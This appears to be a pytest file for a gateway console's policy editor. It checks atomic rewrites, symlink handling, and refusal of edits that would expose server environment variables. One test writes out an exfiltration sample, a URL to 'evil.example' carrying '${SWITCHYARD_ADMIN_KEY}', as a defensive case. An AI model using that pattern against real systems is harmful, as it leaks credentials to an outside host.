"""The console writes the policy file the gateway serves from: as the operator's file, not a new one."""

from __future__ import annotations

import os
import stat
from pathlib import Path
from typing import Any

from router.console.policy_edit import _write_atomically


def test_rewrite_keeps_the_files_mode(tmp_path: Path) -> None:
    policy = tmp_path / "policy.yaml"
    policy.write_text("old")
    policy.chmod(0o644)
    _write_atomically(policy, "new")
    assert policy.read_text() == "new"
    assert stat.S_IMODE(policy.stat().st_mode) == 0o644  # mkstemp's 0600 would lock out a reader (a sidecar, a human)
    assert [p.name for p in tmp_path.iterdir()] == ["policy.yaml"]


def test_rewrite_through_a_symlink_writes_its_target(tmp_path: Path) -> None:
    """As a Kubernetes ConfigMap mount or an operator's own link lays a policy out: the link stays a link."""
    (tmp_path / "real").mkdir()
    target = tmp_path / "real" / "policy.yaml"
    target.write_text("old")
    link = tmp_path / "policy.yaml"
    link.symlink_to(target)
    _write_atomically(link, "new")
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text() == "new"


def test_the_console_cannot_make_the_policy_read_new_environment_variables(tmp_path: Path) -> None:
    """A stolen console session must not turn a policy edit into a read of the server's environment:
    a tier keyed by another variable, or a `${VAR}` in a URL, sends that variable to whatever host
    the tier names. Variables the file already names stay usable."""
    import asyncio

    from router.console.policy_edit import apply_text

    base = ("version: 1\ntiers:\n  paid:\n    engine: openai\n    model: paid\n    base_url: http://127.0.0.1:9/v1\n"
            "    api_key_env: PROVIDER_KEY\n")
    policy = tmp_path / "policy.yaml"
    policy.write_text(base)

    class Reloader:
        path = policy
        reloads = 0

        async def reload(self) -> Any:
            Reloader.reloads += 1
            raise AssertionError("a refused edit must not reach the reload")

    for sneaky in (base.replace("PROVIDER_KEY", "SWITCHYARD_DATABASE_URL"),
                   base.replace("http://127.0.0.1:9/v1", "http://evil.example/${SWITCHYARD_ADMIN_KEY}/v1")):
        outcome = asyncio.run(apply_text(Reloader(), sneaky))
        assert outcome["reloaded"] is False and "SWITCHYARD_" in outcome["issues"][0]["message"]
        assert policy.read_text() == base
    assert Reloader.reloads == 0
